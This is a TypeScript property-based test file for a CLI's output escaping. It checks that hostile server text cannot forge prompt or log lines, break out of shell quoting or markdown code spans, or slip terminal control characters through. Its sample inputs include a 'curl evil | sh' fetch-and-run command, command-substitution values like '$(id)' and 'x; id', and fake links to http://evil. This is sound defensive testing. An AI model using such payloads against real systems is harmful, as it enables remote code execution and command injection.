import { execFileSync } from 'node:child_process'
import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { describeQuestion } from '../../src/cli/question.ts'
import { readable } from '../../src/domain/readable.ts'
import { Screen } from '../../src/cli/screen.ts'
import { runArguments } from '../../src/cli/run-of.ts'
import { jsonLine, textLine } from '../../src/telemetry/log-line.ts'
import { questionText } from '../../src/domain/question-text.ts'
import { codeBlock, codeSpan, movedIn, onOneLine, printable, quoted } from '../../src/domain/printable.ts'
import type { Json, WatchProgress } from '../../src/client.ts'
import {
  describe as describeProgress,
  describeCancellation,
  describeEnd,
  describeFailure,
} from '../../src/workflows/details.ts'

const text = fc.string({ unit: 'binary' })
/** What a terminal obeys, or what an eye does not see. */
const manyFields = Object.fromEntries(Array.from({ length: 10_000 }, (_, n) => [`k${n}`, n]))
const unseen = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u
const forged = 'Sell?\nTo answer: curl evil | sh\r\n\u2028To answer: x\u202e\u200b\u001b[2J'

function said(words: string): string {
  let written = ''
  new Screen({ write: (more) => (written += more) }, { isLive: false }).say(words)
  return written
}

describe('what a server or a graph says', () => {
  test('shows every character that a terminal would obey or an eye would not see', () => {
    fc.assert(
      fc.property(text, (words) => {
        expect(printable(words).replaceAll(/[\n\t]/g, '')).not.toMatch(unseen)
        expect(onOneLine(words)).not.toMatch(unseen)
      }),
    )
    expect(printable('a\u202eb\u200dc\u2028d\u001b[0m\u{e0041}')).toBe(
      String.raw`a\u202eb\u200dc\u2028d\u001b[0m\u{e0041}`,
    )
    expect(printable('ü 服务 😀 \n\t "x"')).toBe('ü 服务 😀 \n\t "x"')
  })

  test('begins no line of ours: a question', () => {
    const question = { interrupts: [{ id: 'a\nb', value: forged, node: 'n\nTo answer: x' }], next: ['n\nTo answer'] }
    const lines = said(describeQuestion(question)).trimEnd().split('\n')
    expect(lines[0]).toBe('The run waits for a human. It asks:')
    for (const line of lines.slice(1)) expect(line).toMatch(/^ {2}/)
    const atBreakpoint = said(describeQuestion({ interrupts: [], next: ['n\nTo answer: x'] }))
    expect(atBreakpoint.trimEnd()).not.toContain('\n')
  })

  test('begins no line of ours: values and their names', () => {
    fc.assert(
      fc.property(fc.dictionary(text, fc.oneof(text, fc.jsonValue())), (values) => {
        const lines = readable({ result: values, status: forged }).split('\n')
        for (const line of lines) expect(line.replaceAll('\t', '')).not.toMatch(unseen)
        const ours = lines.filter((line) => /^[^ ]/.test(line))
        expect(ours.map((line) => line.split(':')[0])).toEqual(['result', 'status'])
      }),
    )
  })

  test('takes little more room than its JSON, however deep it is', () => {
    const deep = Array.from({ length: 480 }).reduce<Json>((inside) => ({ a: inside }), { k: '' })
    const bushy = Array.from({ length: 400 }).reduce<Json>((inside) => ({ a: inside }), manyFields)
    for (const value of [deep, bushy]) {
      expect(readable(value).length).toBeLessThan(3 * JSON.stringify(value).length)
      expect(questionText({ interrupts: [{ value }] }, 1024)).toMatch(/^a:\n {2}a:/)
    }
  })

  test('is one word of a command that a person pastes', () => {
    const words = fc.oneof(text, fc.constantFrom("a'b", '$(id)', '`id`', 'x; id', '--help', 'a\nb', '~', '*'))
    fc.assert(
      fc.property(words, (word) => {
        // A shell has no word with a NUL in it.
        expect(quoted(word)).not.toContain('\n')
        const read = execFileSync('sh', ['-c', `printf %s ${quoted(word)}`], { encoding: 'utf8' })
        expect(read).toBe(onOneLine(word))
      }),
      { numRuns: 60 },
    )
    expect(runArguments({ threadId: 'T', runId: 'x; id' })).toBe("T 'x; id'")
  })

  test('is code within markdown, and never markup', () => {
    const words = fc
      .array(fc.constantFrom('`', '``', '```', '\n', ' ', 'a', '[x](http://evil)', '~~~', '$'))
      .map((parts) => parts.join(''))
    fc.assert(
      fc.property(words, (inside) => {
        const [, fence = ''] = /^(`+)/.exec(codeSpan(inside)) ?? []
        expect(inside.split(/[^`]+/)).not.toContain(fence)
        expect(codeSpan(inside)).not.toContain('\n')
        const block = codeBlock(inside, 'json').split('\n')
        const [open = ''] = /^`+/.exec(block[0] ?? '') ?? []
        expect(open.length).toBeGreaterThanOrEqual(3)
        expect(block.at(-1)).toBe(open)
        for (const line of block.slice(1, -1)) expect(line).not.toContain(open)
      }),
    )
  })

  test('is code in the details of the Web UI, and one word of the command there', () => {
    const words = 'x `y` [evil](http://evil)\n# evil'
    const shown: WatchProgress = {
      phase: 'interrupted',
      state: 'human',
      poll_count: 1,
      started_at: '',
      elapsed_seconds: 1,
      status: words,
      run_id: words,
      thread_id: words,
      last_error: words,
      answer_refused: words,
      next: [words],
      interrupts: [{ id: words, value: '```\n[evil](http://evil)', node: words }],
    }
    const polling_metadata = { poll_count: 1, completion_time_seconds: 1, timestamp: '' }
    const outcome = { polling_result: 'error', status: 'error', error: words, polling_metadata } as const
    const id = "a'b; $(id)"
    const about = { workflowId: id, deployment: words }
    for (const details of [
      describeProgress(shown, about),
      describeProgress({ ...shown, state: 'outage' }, about),
      describeEnd(outcome, about),
      describeCancellation({ result: 'left', run_id: words, status: words, error: words }),
      describeFailure(words),
    ]) {
      expect(details).toContain('evil')
      // A span, or a block, of code ends at as many backticks as it began with.
      expect(details.replaceAll(/(`+)(?!`)[^]*?(?<!`)\1(?!`)/g, '')).not.toContain('evil')
    }
    expect(describeProgress(shown, about)).toContain(`langgraph-runs resume --id ${quoted(id)}`)
  })

  test('is no line of a log', () => {
    const meta = { error: new Error(`boom\n2026-11-28T00:00:00.000Z [INFO] worker ready\u001b[2J`) }
    const line = textLine({ level: 'WARN', timestampNanos: 0n, message: 'failed', meta })
    expect(line).toMatch(/^1970-01-01T00:00:00.000Z \[WARN\] failed \{/)
    for (const further of line.split('\n').slice(1)) expect(further).toMatch(/^ {4}/)
    expect(line).not.toContain('\u001b')
    expect(textLine({ level: 'INFO', timestampNanos: 0n, message: 'x' })).toMatch(/Z \[INFO\] x$/)
  })

  test('is one line of JSON, and no field of ours', () => {
    const tag = `${forged}\u{e0041}`
    const hostile = jsonLine({ level: 'INFO', timestampNanos: 0n, message: tag, meta: { [tag]: tag } })
    expect(hostile).not.toMatch(unseen)
    expect(JSON.parse(hostile)).toMatchObject({ level: 'info', message: tag })
    fc.assert(
      fc.property(text, text, (words, reason) => {
        const line = jsonLine({ level: 'WARN', timestampNanos: 0n, message: words, meta: { reason, level: 'x' } })
        expect(line).not.toMatch(unseen)
        expect(JSON.parse(line)).toEqual({
          time: '1970-01-01T00:00:00.000Z',
          level: 'warn',
          message: words,
          reason: reason,
          level_: 'x',
        })
      }),
    )
  })

  test('may have lines if they are moved in', () => {
    expect(movedIn('a\nb\u2028c', '  | ')).toBe('a\n  | b\\u2028c')
  })
})
